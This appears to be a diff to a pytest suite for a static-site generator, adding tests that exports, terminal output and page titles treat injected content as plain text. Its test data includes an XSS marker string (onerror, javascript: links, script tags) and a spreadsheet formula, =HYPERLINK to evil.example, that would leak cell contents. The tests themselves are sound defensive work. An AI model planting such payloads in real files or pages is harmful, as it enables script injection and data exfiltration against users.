@@ -13,6 +13,7 @@ import shutil
 import xml.etree.ElementTree as etree
 from collections.abc import Iterator
 from dataclasses import dataclass, field
+from html import unescape
 from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
@@ -22,20 +23,26 @@ import pytest
 import yaml
 from conftest import Pages, at_rest, serving
 from figures import note
-from small_project import GOOD, make_buildable
+from mkdocs.utils.meta import get_data
+from small_project import GOOD, ROOT, make_buildable
 
 from generator.catalog import CatalogError, read_catalog
 from generator.catalog.layout import CARD_KINDS, SCHEMAS, STATEMENT, SUBTYPES, card_file
 from generator.catalog.shapes import Anything, Either, Keys, Many, Maybe, Text
+from generator.cli import main
+from generator.database.exports import export
 from generator.rulings import read_scenarios
-from generator.site.build import build_site
+from generator.site import links
+from generator.site.book import Book
+from generator.site.build import BuildError, build_site, render
 from generator.site.policy import POLICY
+from generator.site.writer import Writer
 
 MARKER = (
     "m@q<img src=x onerror=fnord()>\"'&amp;&lt;b&gt;](javascript:fnord()) [a](javascript:fnord()) <javascript:fnord()> {{7*7}} {% raw %} "
-    "**b** _e_ `c` <script>fnord()</script> </title></a></td> | ~ # {: onclick=fnord() } --> ]]> ${fnord()}"
+    "**b** _e_ `c` <script>fnord()</script> </title></a></td> | ~ # {: onclick=fnord() } --> ]]> ${fnord()} :bomb:"
 )
-HIDDEN = ("\x00", "\x1b", "\x7f", "\x85", "\u200b", "\u202e", "\u2066", "\ufeff", "\ue000", "\u2028")
+HIDDEN = ("\x00", "\x1b", "\x7f", "\x85", "\u200b", "\u202e", "\u2066", "\ufeff", "\ue000", "\u2028", "\u034f", "\u3164", "\ufffe", "\uffff")
 
 
 def marker(number: int) -> str:
@@ -410,6 +417,41 @@ def test_other_files_hold_the_marker_as_text(marked: tuple[Path, dict[int, str]]
         assert any("<img src=x onerror=fnord()>" in row["name"] for row in csv.DictReader(file))
 
 
+@pytest.mark.parametrize("computed", ['=HYPERLINK("http://evil.example/?"&A1,"Rumor")', "+1", "-1+A1", "@SUM(A1)", " =1", "\uff1d1"])
+def test_no_spreadsheet_computes_a_text(tmp_path: Path, computed: str) -> None:
+    """A cell whose text would be a formula has an apostrophe before it."""
+    project(tmp_path)
+    cards = tmp_path / "cards/toy/specials.yaml"
+    cards.write_text(cards.read_text(encoding="utf-8").replace("name: Rumor", f"name: {json.dumps(computed)}"), encoding="utf-8")
+    (path,) = export(read_catalog(tmp_path), ["csv"], tmp_path)
+    with path.open(encoding="utf-8", newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert f"'{computed}" in {row["name"] for row in rows}
+    assert [] == [cell for row in rows for cell in row.values() if re.match(r"\s*[=+@-](?!\d+$)", cell)]
+
+
+def test_the_terminal_shows_the_marker_as_text(marked: tuple[Path, dict[int, str]], capsys: pytest.CaptureFixture[str]) -> None:
+    """Whatever command prints a marker prints all of it, and no sign, style or link that comes of it; the search, which cuts texts, what is there."""
+    folder, _ = marked
+    catalog = read_catalog(folder)
+    cards = [["card", record.id.partition("/")[2]] for record in catalog.cards]
+    others = [["ruling", *ruling] for ruling in ((), *((each.id,) for each in catalog.rulings))]
+    seen = set()
+    for line in [*cards, *others, ["coverage", "--map"], ["attack", "toy control bakers>poets"], ["search", "onerror"]]:
+        with pytest.raises(SystemExit) as ended:
+            main([*line, "--root", str(folder)])
+        printed = capsys.readouterr()
+        assert (0, "") == (ended.value.code, printed.err), line
+        assert printed.out.replace("\n", "").isprintable() and "\N{BOMB}" not in printed.out, line
+        whole = "".join(printed.out.split())
+        found = re.findall(r"m(\d+)q", whole)
+        seen |= set(found)
+        for number in found if line[0] != "search" else ():
+            assert "".join(marker(int(number)).split()) in whole, line
+        assert found or line[0] != "search"
+    assert len(seen) > 20
+
+
 LISTEN = """() => {
   self.said = [];
   addEventListener("securitypolicyviolation", (event) => said.push(`${event.violatedDirective} ${event.blockedURI}`));
@@ -520,6 +562,24 @@ def test_every_page_says_its_policy(marked: tuple[Path, dict[int, str]]) -> None
         assert not re.search("<(script|link|style|img)", before), path
     assert POLICY in (site / "_headers").read_text(encoding="utf-8")
     assert "_headers" not in (site / "sw.js").read_text(encoding="utf-8")
+
+
+def test_a_title_is_read_back_whatever_is_in_it(tmp_path: Path) -> None:
+    """Titles and descriptions go to MkDocs as YAML, where every character is read as what it is, those that YAML refuses to read too."""
+    title = "".join(map(chr, (*range(0x20, 0x3000), *range(0xFDD0, 0x10000), 0x1F3B2, 0x10FFFF)))
+    Writer(Book(read_catalog(GOOD)), ROOT / "site_templates", tmp_path).page("x/", "search.md.j2", title=title, description="--- # \n---\n", questions=())
+    text, read = get_data((tmp_path / links.source_of("x/")).read_text(encoding="utf-8"))
+    assert (title, "--- # \n---\n") == tuple(unescape(read[key]) for key in ("title", "description"))
+    assert not text.startswith("---")
+
+
+def test_a_page_whose_title_cannot_be_read_is_no_page(tmp_path: Path) -> None:
+    """MkDocs would show the title, the description and all that goes with them as a part of the page."""
+    (tmp_path / "docs").mkdir()
+    (tmp_path / "docs/index.md").write_text('---\ntitle: "<b>\ufffe"\n---\n# A page\n', encoding="utf-8")
+    with pytest.raises(BuildError) as caught:
+        render(ROOT, tmp_path / "docs", tmp_path / "site", [{"Home": "index.md"}])
+    assert ("mkdocs.yml:1:1: broken-page: the title and description of index.md can't be read",) == caught.value.problems
 
 
 def test_what_nobody_can_see_is_refused_in_every_field(tmp_path: Path) -> None:
